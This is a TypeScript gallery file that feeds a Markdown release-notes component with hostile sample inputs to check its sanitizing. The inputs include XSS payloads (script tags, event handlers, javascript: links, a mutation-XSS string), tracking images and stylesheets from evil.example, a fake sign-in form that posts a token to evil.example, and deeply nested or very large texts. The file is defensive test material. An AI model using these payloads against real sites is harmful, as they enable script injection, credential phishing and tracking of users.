import { html } from "lit";
import "../elements/update/pawl-notes.ts";
import type { GalleryEntry } from "./entry.ts";

/** What strangers may write into the notes of a release. Nothing of it may run, be fetched, or look like ours. */
const NOTES = {
  plain: "Pictures of the *kitchen*, and `backup_hour`.\n\n1. one\n2. two",
  headings: "# One\n\n##### Five\n\nText\n\n### Three",
  wide: `| ${"Column | ".repeat(30)}\n|${" --- |".repeat(30)}\n| ${"value | ".repeat(30)}\n\n\`\`\`\n${"x".repeat(600)}\n\`\`\``,
  scripts: `<script>alert(1)</script><ScRiPt src="https://evil.example/x.js"></script><svg><script>alert(2)</script></svg>
<iframe src="javascript:alert(3)"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/y">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(4)&gt;">`,
  handlers: `<img src="x" onerror="alert(1)"><details open ontoggle="alert(2)">hm</details><p onclick="alert(3)">press</p>
<a href="https://good.example/" onmouseover="alert(4)">good</a><body onload="alert(5)"><input autofocus onfocus="alert(6)">`,
  links: `[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](data:text/html,<script>alert(3)</script>) [d](vbscript:x)
<a href="java&#10;script:alert(4)">e</a> <a href=" &#1;javascript:alert(5)">f</a> [g](//evil.example/) [h](/relative) [i](https://good.example/)`,
  pictures: `![a picture](https://evil.example/pixel.gif) <img src="https://evil.example/2.gif" srcset="https://evil.example/3.gif 2x">
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><picture><source srcset="https://evil.example/4.gif"></picture>
[![badge](https://evil.example/badge.svg)](https://good.example/)`,
  styles: `<style>* { display: none } @import "https://evil.example/x.css";</style><link rel="stylesheet" href="https://evil.example/y.css">
<p style="position: fixed; inset: 0; background: url(https://evil.example/z.png)">over all</p>
<form action="https://evil.example/"><input name="token" placeholder="Your token"><button>Sign in</button></form>
<p id="title" class="button primary">like ours</p>`,
  huge: `${"A line of many. ".repeat(20_000)}`,
  nested: `${"> ".repeat(2_000)}deep\n\n${"[".repeat(2_000)}x${"](y)".repeat(2_000)}\n\n${"*a ".repeat(3_000)}`,
} as const;

export const notes: GalleryEntry = {
  kind: "element",
  element: "pawl-notes",
  about: "What strangers have written, in Markdown",
  states: Object.fromEntries(
    Object.entries(NOTES).map(([name, text]) => [
      name,
      () => html`<pawl-notes .text=${text} .url=${"https://good.example/notes"}></pawl-notes>`,
    ]),
  ),
};
